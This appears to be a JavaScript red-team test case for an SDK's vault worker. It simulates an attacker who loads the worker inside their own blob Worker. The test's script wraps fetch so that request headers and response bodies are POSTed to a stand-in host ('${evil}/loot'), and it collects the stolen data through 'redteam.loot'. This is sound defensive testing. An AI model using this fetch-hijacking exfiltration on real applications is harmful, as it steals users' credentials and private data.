// A real attacker: starts the SDK's worker script inside a blob worker of their own, in which `fetch` is already
// theirs, and configures it as the application does.
export default {
  row: "own-worker",
  expected: ["wins", "loses"],
  after: async ({ own, home, api, evil, resources }) => {
    const spy = (script, evil) => `
      const own = self.fetch;
      const home = (text) => own("${evil}/loot", { method: "POST", mode: "no-cors", body: text });
      self.fetch = async (url, init) => {
        home([...new Headers(init?.headers)].join());
        const response = await own.call(self, url, init);
        response.clone().text().then(home);
        return response;
      };
      importScripts("${script}");`;
    const configuration = { endpoints: `${home}/auth`, resources };
    const { port1, port2 } = new MessageChannel();
    const heard = [];
    port1.onmessage = ({ data }) => {
      heard.push(String(data));
      globalThis.redteam.loot(data);
    };
    const blob = new Blob([spy(`${own}/pkg/vault.worker.js`, evil)], { type: "text/javascript" });
    const worker = new Worker(URL.createObjectURL(blob));
    worker.onerror = (event) => {
      event.preventDefault();
      heard.push(event.message ?? "error");
    };
    worker.postMessage(configuration, [port2]);
    for (let i = 0; i < 60 && !heard.length; i++) await new Promise((resolve) => setTimeout(resolve, 50));
    port1.postMessage([0, 1, `${api}/v1/me`, [], { method: "GET" }, true]);
    await new Promise((resolve) => setTimeout(resolve, 1200));
    return heard;
  },
};
